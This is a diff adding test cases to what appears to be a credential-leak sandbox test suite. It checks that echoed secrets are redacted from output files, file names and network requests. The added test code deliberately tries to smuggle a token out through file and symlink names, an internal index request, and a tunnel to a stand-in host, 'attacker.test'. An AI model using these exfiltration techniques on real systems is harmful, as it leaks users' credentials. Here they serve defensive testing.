@@ -197,6 +197,16 @@ enum CredentialCases {
     for text in spelled:
         print("out", text, flush=True)
         print("error", text, file=sys.stderr, flush=True)
+    for number, text in enumerate(spelled):
+        with open(f"/output/{number}", "w") as file: file.write("." * 262140 + text)
+    with open("/output/named " + echoed, "w") as file: file.write("named")
+    os.mkdir("/output/in " + data.hex())
+    with open("/output/in " + data.hex() + "/inner", "w") as file: file.write("inner")
+    os.symlink("nowhere", "/output/link " + echoed)
+    with open("/output/clean", "w") as file: file.write("clean " + echoed[:9])
+    note("asked", len(body("http://index.internal/simple/" + echoed)))
+    note("denied", said(("index.internal", 80), f"GET /{echoed} HTTP/1.1\\r\\nHost: index.internal\\r\\n\\r\\n".encode()))
+    connect("tunnel", echoed + ".attacker.test:443")
     for half in (echoed[:9], echoed[9:]):
         sys.stdout.write(half)
         sys.stdout.flush()
@@ -206,6 +216,18 @@ enum CredentialCases {
   ) { evidence, verdict in
     verdict.equal(evidence.number("length").map(Int.init), token.utf8.count, "control: bytes of what was echoed")
     verdict.equal(evidence.number("spellings"), 10, "spellings")
+    // In files, in their names, and in what was asked for.
+    let named = ["named [redacted:index]", "in [redacted:index]", "link [redacted:index]"]
+    verdict.equal(
+      evidence.quarantined,
+      Dictionary(uniqueKeysWithValues: ((0..<10).map(String.init) + named).map { ($0, "secret") }), "quarantined")
+    verdict.equal(evidence.artifacts, ["clean"], "artifacts")
+    verdict.require(evidence.number("asked") ?? 0 > 0, "control: the path was asked for")
+    verdict.met(evidence, ["denied", "tunnel"], "403")
+    let paths = try await evidence.ledger().compactMap { $0["path"]?.string }
+    for path in ["/simple/[redacted:index]", "/[redacted:index]"] {
+      verdict.require(paths.contains(path), "the ledger has no path \(path): \(paths)")
+    }
     let stored = try await everything(evidence)
     for (name, text) in stored {
       for spelling in spellings where text.contains(spelling) {
